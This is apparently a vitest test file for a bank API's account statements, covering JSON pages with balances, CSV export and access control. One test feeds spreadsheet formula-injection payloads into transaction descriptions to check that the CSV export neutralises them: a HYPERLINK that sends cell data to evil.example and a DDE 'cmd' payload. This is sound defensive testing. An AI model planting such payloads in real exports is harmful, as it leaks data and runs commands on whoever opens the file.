/** Statements over HTTP: pages as JSON, and the whole period as a CSV file. */
import { afterAll, beforeAll, describe, expect, it } from "vitest"
import { bodyOf, type GivenBank, givenBank, newKey, problem, usd } from "./given-bank.ts"

let bank: GivenBank
beforeAll(async () => {
  bank = await givenBank()
})
afterAll(() => bank.service.close())

const transfer = async (amount: string, description: string, reference = "") => {
  const { checking: fromAccountId, client } = bank.ada
  const toAccountId = bank.grace.savings
  const words = { description, reference }
  return bodyOf(
    await client.transactions.create({
      body: { type: "transfer", fromAccountId, toAccountId, amount: usd(amount), ...words },
      idempotencyKey: newKey()
    })
  )
}

const statement = async (query: object = {}) => {
  const { checking: accountId, client } = bank.ada
  return bodyOf(await client.accounts.statement({ params: { accountId }, query }))
}

const csv = (query = "", accountId = bank.ada.checking) => {
  const path = `/api/accounts/${accountId}/statement?format=csv${query}`
  return bank.ada.client.send({ method: "GET", path, body: null, idempotencyKey: null })
}

/** The cells of a CSV file, read by the grammar of RFC 4180. */
const cellsOf = (text: string): readonly (readonly string[])[] => {
  expect(text).toMatch(/\r\n$/u)
  const rows: string[][] = [[]]
  const cell = /("(?:[^"]|"")*"|[^",\r\n]*)(,|\r\n)/guy
  for (let at = 0; at < text.length; at = cell.lastIndex) {
    cell.lastIndex = at
    const found = cell.exec(text)
    if (found === null) throw new Error(`no cell at ${text.slice(at, at + 40)}`)
    const [, content = "", end] = found
    rows
      .at(-1)
      ?.push(content.startsWith('"') ? content.slice(1, -1).replaceAll('""', '"') : content)
    if (end === "\r\n") rows.push([])
  }
  return rows.slice(0, -1)
}

describe("GET /api/accounts/{accountId}/statement", () => {
  it("begins where the balance was, and ends where it is", async () => {
    const first = await transfer("25.00", "Rent", "2026-11")
    const second = await transfer("0.01", "Penny")
    const shown = await statement()
    expect(shown).toMatchObject({
      accountId: bank.ada.checking,
      openingBalance: usd("0.00"),
      closingBalance: usd("974.99"),
      page: { limit: 20, next: null, previous: null }
    })
    expect(shown.lines.slice(1)).toEqual([
      {
        transactionId: first.id,
        type: "transfer",
        bookedAt: first.bookedAt,
        valueDate: first.valueDate,
        description: "Rent",
        reference: "2026-11",
        side: "debit",
        amount: usd("25.00"),
        balanceAfter: usd("975.00")
      },
      expect.objectContaining({ transactionId: second.id, balanceAfter: usd("974.99") })
    ])
    const before = await statement({ until: first.bookedAt })
    const after = await statement({ from: first.bookedAt })
    expect(after.openingBalance).toEqual(before.closingBalance)
    expect([...before.lines, ...after.lines]).toEqual(shown.lines)
  })

  it("has pages both ways, each with its own opening and closing balance", async () => {
    for (const amount of ["1.00", "2.00", "3.00", "4.00"]) await transfer(amount, "Page")
    const whole = await statement()
    const first = await statement({ limit: "3" })
    const second = await statement({ limit: "3", cursor: first.page.next })
    expect([...first.lines, ...second.lines]).toEqual(whole.lines.slice(0, 6))
    expect(second.openingBalance).toEqual(first.closingBalance)
    expect(second.openingBalance).toEqual(first.lines.at(-1)?.balanceAfter)
    expect(await statement({ limit: "3", cursor: second.page.previous })).toEqual({
      ...first,
      page: { ...first.page, previous: null }
    })
  })

  it("of a period without postings has the same balance at both ends", async () => {
    const shown = await statement({ until: "2001-01-01T00:00:00Z" })
    expect(shown.lines).toEqual([])
    expect([shown.openingBalance, shown.closingBalance]).toEqual([usd("0.00"), usd("0.00")])
  })
})

describe("A statement as CSV", () => {
  const header = [
    "booked_at",
    "value_date",
    "transaction_id",
    "type",
    "description",
    "reference",
    "debit",
    "credit",
    "balance",
    "currency"
  ]

  it("is a file with the whole period, from opening to closing balance", async () => {
    const response = await csv()
    expect(response.status).toBe(200)
    expect(response.headers.get("content-type")).toBe("text/csv; charset=utf-8; header=present")
    expect(response.headers.get("content-disposition")).toBe(
      `attachment; filename="${bank.ada.checking}.csv"`
    )
    expect(response.headers.get("x-content-type-options")).toBe("nosniff")
    const [first, opening, ...rows] = cellsOf(await response.text())
    const { closingBalance, lines } = await statement()
    expect(first).toEqual(header)
    expect(opening).toEqual(["", "", "", "opening balance", "", "", "", "", "0.00", "USD"])
    expect(rows.at(-1)).toEqual([
      "",
      "",
      "",
      "closing balance",
      "",
      "",
      "",
      "",
      closingBalance.amount,
      "USD"
    ])
    expect(rows.slice(0, -1)).toEqual(
      lines.map((line) => [
        line.bookedAt,
        line.valueDate,
        line.transactionId,
        line.type,
        line.description,
        line.reference,
        line.side === "debit" ? line.amount.amount : "",
        line.side === "credit" ? line.amount.amount : "",
        line.balanceAfter.amount,
        "USD"
      ])
    )
  })

  it("quotes what separates, and makes no formula of anybody's words", async () => {
    const words = [
      [`=HYPERLINK("http://evil.example?"&A1)`, `'=HYPERLINK("http://evil.example?"&A1)`],
      ["+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"],
      ["-2+3", "'-2+3"],
      ["@SUM(A1)", "'@SUM(A1)"],
      [`"Milk", eggs; 'n' more`, `"Milk", eggs; 'n' more`],
      ["Zürich — 東京", "Zürich — 東京"]
    ] as const
    const from = (await transfer("0.01", words[0][0], words[0][0])).bookedAt
    for (const [sent] of words.slice(1)) await transfer("0.01", sent, sent.slice(0, 64))
    const rows = cellsOf(await (await csv(`&from=${from}`)).text()).slice(2, -1)
    expect(rows.slice(-words.length).map((row) => row[4])).toEqual(words.map(([, kept]) => kept))
    expect(rows.slice(-words.length).map((row) => row[5])).toEqual(words.map(([, kept]) => kept))
  })

  it("comes a page at a time, with no line lost or repeated", async () => {
    for (let count = 0; count < 210; count++) await bank.deposit(bank.ada.savings, "0.01")
    const response = await csv("", bank.ada.savings)
    const chunks: string[] = []
    for await (const chunk of response.body ?? []) chunks.push(new TextDecoder().decode(chunk))
    expect(chunks.length).toBe(3)
    const rows = cellsOf(chunks.join(""))
    expect(rows.slice(2, -1).map((row) => row[8])).toEqual(
      Array.from({ length: 210 }, (_, index) => ((index + 1) / 100).toFixed(2))
    )
    expect(new Set(rows.slice(2, -1).map((row) => row[2])).size).toBe(210)
  })

  it("has neither cursor nor limit", async () => {
    const { checking: accountId, client } = bank.ada
    const asked = await client.accounts.statement({
      params: { accountId },
      query: { format: "csv", limit: "1" }
    })
    const message = "expected neither cursor nor limit with format=csv, which is the whole period"
    expect(asked).toEqual(
      problem(400, "bad_input", { errors: [{ in: "query", pointer: "", message }] })
    )
  })

  it("is not made of another customer's account", async () => {
    const response = await csv("", bank.grace.savings)
    expect(response.status).toBe(404)
    expect(response.headers.get("content-type")).toContain("application/problem+json")
  })
})
